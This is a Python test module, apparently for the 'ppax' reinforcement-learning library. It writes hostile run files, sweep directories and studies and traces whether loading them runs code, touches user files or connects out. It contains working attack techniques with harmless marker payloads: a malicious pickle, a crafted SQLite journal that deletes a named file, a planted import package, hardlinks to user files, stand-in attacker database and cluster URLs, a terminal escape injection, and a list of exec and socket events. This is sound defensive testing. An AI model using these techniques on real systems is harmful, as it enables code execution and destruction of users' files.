"""Hostile run files, run directories, sweep directories and studies, and a trace of what ppax does with them.

Each entry of CASES writes files of a stranger into `theirs` that name something in `home`, the user's, or a server, and
returns the command line of a user who has received them.
"""

import contextlib
import json
import os
import pickle
import sqlite3
import struct
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

from ppax import config
from ppax.sweeps import directory, plan
from ppax.sweeps.directory import Recorded

RUN = {
    "env": "CartPole-v1",
    "num_envs": 8,
    "num_steps": 16,
    "total_steps": 256,
    "log": {"console": False},
    "agent": {"network": {"hidden": [4]}},
}
RATES = {"agent.learning_rate": [1e-3, 2e-3]}
SPACE = {
    "agent.learning_rate": {"part": "log_uniform", "low": 1e-4, "high": 1e-2},
    "agent.gamma": {"part": "uniform", "low": 0.9, "high": 0.99},
}
MARKER = "executed"


class Payload:
    """Object whose unpickling makes a directory, the marker."""

    def __init__(self, home: Path):
        self.marker = home / MARKER

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self.marker),)


def run_file(theirs: Path, *tables: dict[str, Any]) -> list[str]:
    """Write a run file; return the command that trains it."""
    path = theirs / "theirs.toml"
    path.write_text(config.to_toml(merged(RUN, *tables)))
    return ["train", str(path)]


def sweep_file(theirs: Path, *tables: dict[str, Any]) -> list[str]:
    return ["sweep", *run_file(theirs, {"sweep": RATES}, *tables)[1:]]


def run_directory(theirs: Path, *tables: dict[str, Any]) -> list[str]:
    """Write a run directory without checkpoints; return the command that resumes it."""
    (theirs / "run.toml").write_text(config.to_toml(merged(config.resolve(RUN), *tables)))
    (theirs / "about.json").write_text('{"id": "0123456789abcdef", "starts": []}')
    return ["resume", str(theirs)]


def sweep_directory(theirs: Path, table: dict[str, Any], *tables: dict[str, Any]) -> list[str]:
    """Write a sweep directory; return the command that resumes it."""
    search = table.get("search", {})
    swept = {"sweep": {name: x for name, x in table.items() if name != "search"}}
    run_config = merged(config.resolve(RUN), *tables)
    (theirs / "members").mkdir()
    begun = config.to_toml(run_config | swept | ({"search": search} if search else {}))
    (theirs / "sweep.toml").write_text(begun)
    members = [] if search else [[0, {"agent.learning_rate": 1e-3}, 0]]
    (theirs / "sweep.json").write_text(json.dumps({"format": 1, "members": members, "programs": [], "begun": begun}))
    return ["resume", str(theirs)]


def sweep_record(theirs: Path, values: dict[str, Any]) -> list[str]:
    """Write a sweep directory whose list of members has other values than its run file."""
    arguments = sweep_directory(theirs, RATES)
    record = json.loads((theirs / "sweep.json").read_text()) | {"members": [[0, values, 0]]}
    (theirs / "sweep.json").write_text(json.dumps(record))
    return arguments


def merged(base: dict[str, Any], *tables: dict[str, Any]) -> dict[str, Any]:
    """Return nested tables with those of others, which have priority."""
    for table in tables:
        for name, value in table.items():
            inner = base.get(name)
            both = isinstance(value, dict) and isinstance(inner, dict) and name != "sweep"
            base = base | {name: merged(inner, value) if both else value}
    return base


def extension(name: str, **options: Any) -> dict[str, Any]:
    return {"agent": {"extensions": {name: options}}}


def logger(**options: Any) -> dict[str, Any]:
    return {"log": {"to": [options]}}


def storage(url: str) -> dict[str, Any]:
    return {"search": {"part": "optuna", "trials": 1, "batch": 1, "sampler": "random", "storage": url}}


def study(theirs: Path, home: Path) -> list[str]:
    """Write a sweep directory whose study has a pickle in the attributes of its trials, as Optuna's CMA-ES has."""
    import optuna

    from ppax.sweeps.studies.study import Study

    table = SPACE | {"search": {"part": "optuna", "trials": 64, "batch": 1, "sampler": "tpe"}}
    run_config, sweep_plan = config.resolve(RUN), plan.read(table)
    directory.create_sweep(theirs, Recorded(run_config, sweep_plan, (), ()))
    with Study(theirs, sweep_plan, run_config) as opened:
        for _ in range(2):
            attributes = {"cma:optimizer:0": pickle.dumps(Payload(home)).hex(), "cma:generation": 0}
            params = {"agent.learning_rate": 1e-3, "agent.gamma": 0.95}
            trial = optuna.trial.create_trial(
                params=params, distributions=opened._space, value=1.0, system_attrs=attributes
            )
            opened._study.add_trial(trial)
    return ["resume", str(theirs)]


def journal(path: Path, victim: Path) -> None:
    """Write a SQLite database and a journal of it, which names a file that SQLite removes when it opens the database.

    https://sqlite.org/fileformat.html#the_rollback_journal
    """
    with contextlib.closing(sqlite3.connect(path)) as database:
        database.execute("create table t(x)")
        database.commit()
    page, pages, magic = path.read_bytes()[:4096], path.stat().st_size // 4096, bytes.fromhex("d9d505f920a163d7")
    header = (magic + struct.pack(">5I", 1, 0, pages, 512, 4096)).ljust(512, b"\0")
    checksum = sum(page[place] for place in range(4096 - 200, 0, -200)) & 0xFFFFFFFF
    name = os.fsencode(victim)
    of_name = sum(byte if byte < 128 else byte - 256 for byte in name) & 0xFFFFFFFF
    end = struct.pack(">I", 0x40000000 // 4096 + 1) + name + struct.pack(">2I", len(name), of_name) + magic
    record = struct.pack(">I", 1) + page + struct.pack(">I", checksum)
    path.with_name(f"{path.name}-journal").write_bytes(header + record + end)


def study_with_journal(theirs: Path, home: Path) -> list[str]:
    arguments = sweep_directory(theirs, SPACE | storage("none"))
    journal(theirs / "study.db", home / "uv.lock")
    return arguments


def study_with_other_name(ending: str) -> Callable[[Path, Path], list[str]]:
    """Return the function that writes a study of which one file is another name of a file of the user."""

    def write(theirs: Path, home: Path) -> list[str]:
        arguments = sweep_directory(theirs, SPACE | storage("none"))
        os.link(home / "uv.lock", theirs / f"study.db{ending}")
        return arguments

    return write


def package_beside(write: Callable[..., list[str]]) -> Callable[[Path, Path], list[str]]:
    """Return the function that plants a package of the user's name in a directory in which the user is."""

    def plant(theirs: Path, home: Path) -> list[str]:
        (theirs / "river").mkdir()
        text = f"import os\nos.mkdir({str(home / MARKER)!r})\n"
        (theirs / "river" / "__init__.py").write_text(text)
        command, _ = write(theirs)
        os.chdir(theirs)
        return [command, ".", "--trust", "river"]

    return plant


RIVER = {"agent": {"advantage": {"part": "river:Mixed"}}}
CASES: dict[str, Callable[[Path, Path], list[str]]] = {
    "run file, teacher": lambda theirs, home: run_file(theirs, extension("distillation", teacher=str(home))),
    "run file, teacher by a relative path": lambda theirs, home: run_file(
        theirs, extension("distillation", teacher=os.path.relpath(home / "run"))
    ),
    "run file, teacher on a server": lambda theirs, home: run_file(
        theirs, extension("distillation", teacher="hf://stranger/policy", checksum="0" * 64)
    ),
    "run file, teacher on a share of Windows": lambda theirs, home: run_file(
        theirs, extension("distillation", teacher=r"\\stranger\share\policy.zip", checksum="0" * 64)
    ),
    "run file, demonstrations": lambda theirs, home: run_file(
        theirs, extension("behaviour_cloning", demonstrations=str(home / "demos.npz"))
    ),
    "run file, demonstrations of a group": lambda theirs, home: run_file(
        theirs,
        {"env": "Pursuit-2"},
        {
            "groups": {
                "prey": {"players": [0], **extension("behaviour_cloning", demonstrations=str(home / "demos.npz"))}
            }
        },
        {"groups": {"hunters": {"players": [1]}}},
    ),
    "run file, init_from": lambda theirs, home: run_file(theirs, {"init_from": {"run": str(home / "run")}}),
    "run file, database of MLflow": lambda theirs, home: run_file(
        theirs, logger(part="mlflow", tracking_uri=f"sqlite:///{home / 'new.db'}")
    ),
    "run file, server of MLflow": lambda theirs, home: run_file(
        theirs, logger(part="mlflow", tracking_uri="http://stranger.example:5000")
    ),
    "run file, profile of MLflow": lambda theirs, home: run_file(
        theirs, logger(part="mlflow", tracking_uri="databricks")
    ),
    "run file, account of wandb": lambda theirs, home: run_file(theirs, logger(part="wandb", entity="stranger")),
    "run file, argument of the environment": lambda theirs, home: run_file(
        theirs, {"env": "gymnasium/CartPole-v1", "env_params": {"render_mode": str(home / "uv.lock")}}
    ),
    "run file, argument of the environment in a list": lambda theirs, home: run_file(
        theirs, {"env": "gymnasium/CartPole-v1", "env_params": {"files": [[str(home / "uv.lock")], "plain"]}}
    ),
    "run file, argument of the environment in evaluations": lambda theirs, home: run_file(
        theirs, {"env": "gymnasium/CartPole-v1", "eval": {"env_params": {"file": "~/uv.lock"}}}
    ),
    "run file, package of gymnasium": lambda theirs, home: run_file(theirs, {"env": "gymnasium/river:Id-v0"}),
    "run file, text that is not printable": lambda theirs, home: run_file(
        theirs, {"init_from": {"run": f"{home}/\x1b]0;x\x07 --trust river"}}
    ),
    "sweep file, database in a file": lambda theirs, home: sweep_file(
        theirs, {"sweep": SPACE}, storage(f"sqlite:///{home / 'new.db'}")
    ),
    "sweep file, database beside a lock": lambda theirs, home: sweep_file(
        theirs, {"sweep": SPACE}, storage(f"sqlite:///{home / 'uv'}")
    ),
    "sweep file, database beside it": lambda theirs, home: sweep_file(
        theirs, {"sweep": SPACE}, storage(f"sqlite:///{theirs / 'study.db'}")
    ),
    "sweep file, database on a server": lambda theirs, home: sweep_file(
        theirs, {"sweep": SPACE}, storage("postgresql+psycopg://me:secret@stranger.example/studies")
    ),
    "sweep file, driver that reads a file": lambda theirs, home: sweep_file(
        theirs, {"sweep": SPACE}, storage(f"mysql+pymysql://stranger.example/x?read_default_file={home}/uv.lock")
    ),
    "sweep file, no URL of a database": lambda theirs, home: sweep_file(theirs, {"sweep": SPACE}, storage("stranger")),
    "sweep file, cluster of Ray": lambda theirs, home: sweep_file(
        theirs, {"ray": {"address": "ray://stranger.example:10001"}}
    ),
    "sweep file, cluster of Ray by host and port": lambda theirs, home: sweep_file(
        theirs, {"ray": "stranger.example:6379"}
    ),
    "sweep file, swept init_from": lambda theirs, home: sweep_file(
        theirs, {"sweep": {"init_from.run": [str(home / "run"), str(home / "other")]}}
    ),
    "run directory, init_from": lambda theirs, home: run_directory(theirs, {"init_from": {"run": str(home / "run")}}),
    "run directory, teacher": lambda theirs, home: run_directory(
        theirs, extension("distillation", teacher=str(home / "run"))
    ),
    "run directory, demonstrations": lambda theirs, home: run_directory(
        theirs, extension("behaviour_cloning", demonstrations=str(home / "demos.npz"))
    ),
    "run directory, teacher on a server": lambda theirs, home: run_directory(
        theirs, extension("distillation", teacher="hf://stranger/policy", checksum="0" * 64)
    ),
    "run directory, database of MLflow": lambda theirs, home: run_directory(
        theirs, logger(part="mlflow", tracking_uri=f"sqlite:///{home / 'new.db'}")
    ),
    "run directory, account of wandb": lambda theirs, home: run_directory(
        theirs, logger(part="wandb", entity="stranger")
    ),
    "run directory, argument of the environment": lambda theirs, home: run_directory(
        theirs, {"env": "gymnasium/CartPole-v1", "env_params": {"file": str(home / "uv.lock")}}
    ),
    "run directory, evaluated with an argument": lambda theirs, home: [
        "evaluate",
        *run_directory(theirs, {"env": "gymnasium/CartPole-v1", "env_params": {"file": str(home / "uv.lock")}})[1:],
    ],
    "run directory, package beside the user": package_beside(lambda theirs: run_directory(theirs, RIVER)),
    "sweep directory, database in a file": lambda theirs, home: sweep_directory(
        theirs, SPACE | storage(f"sqlite:///{home / 'new.db'}")
    ),
    "sweep directory, database beside a lock": lambda theirs, home: sweep_directory(
        theirs, SPACE | storage(f"sqlite:///{home / 'uv'}")
    ),
    "sweep directory, database on a server": lambda theirs, home: sweep_directory(
        theirs, SPACE | storage("postgresql+psycopg://stranger.example/studies")
    ),
    "sweep directory, teacher": lambda theirs, home: sweep_directory(
        theirs, RATES, extension("distillation", teacher=str(home / "run"))
    ),
    "sweep directory, init_from": lambda theirs, home: sweep_directory(
        theirs, RATES, {"init_from": {"run": str(home / "run")}}
    ),
    "sweep directory, init_from of a member": lambda theirs, home: sweep_record(
        theirs, {"init_from.run": str(home / "run")}
    ),
    "sweep directory, argument of a member's environment": lambda theirs, home: sweep_record(
        theirs, {"env": "gymnasium/CartPole-v1", "env_params.file": str(home / "uv.lock")}
    ),
    "sweep directory, package beside the user": package_beside(lambda theirs: sweep_directory(theirs, RATES, RIVER)),
    "sweep directory, journal that removes a file": study_with_journal,
    "sweep directory, database that is a file of the user": study_with_other_name(""),
    "sweep directory, lock that is a file of the user": study_with_other_name(".ppax-lock"),
}


class Trace(NamedTuple):
    """Events of a traced context that a stranger's file must not cause."""

    events: list[str]


RUNS = ("os.system", "os.exec", "os.posix_spawn", "os.spawn", "subprocess.Popen", "pickle.find_class", "ctypes.dlopen")
CHANGES = ("os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.truncate", "os.link", "os.symlink", "os.chmod")
SENDS = ("socket.connect", "socket.getaddrinfo", "socket.sendto")
_tracing: list[tuple[list[str], Path]] = []


def _hook(event: str, arguments: tuple[Any, ...]) -> None:
    if not _tracing:
        return
    events, home = _tracing[-1]
    if event in (*RUNS, *SENDS):
        events.append(f"{event} {arguments!r}")
    elif event in (*CHANGES, "open", "sqlite3.connect"):
        paths = [os.fsdecode(one) for one in arguments if isinstance(one, str | bytes | Path)]
        if any(os.path.realpath(path).startswith(str(home)) for path in paths):
            events.append(f"{event} {arguments!r}")


@contextlib.contextmanager
def traced(home: Path) -> Iterator[Trace]:
    """Context in which code that runs, files of `home` that are opened or changed, and connections are recorded."""
    if not getattr(sys, "_ppax_hook", False):
        sys._ppax_hook = True  # type: ignore[attr-defined]  # a hook stays until the process ends
        sys.addaudithook(_hook)
    events: list[str] = []
    _tracing.append((events, Path(os.path.realpath(home))))
    try:
        yield Trace(events)
    finally:
        _tracing.pop()


def victim(home: Path) -> dict[str, bytes]:
    """Write files of a user into `home`, and return the content of all by name."""
    (home / "run").mkdir(parents=True)
    (home / "run" / "run.toml").write_text('env = "CartPole-v1"\n')
    (home / "uv.lock").write_text("# my lock file\n" * 20)
    (home / "demos.npz").write_bytes(b"PK")
    return contents(home)


def contents(home: Path) -> dict[str, bytes]:
    return {str(path.relative_to(home)): path.read_bytes() for path in sorted(home.rglob("*")) if path.is_file()}
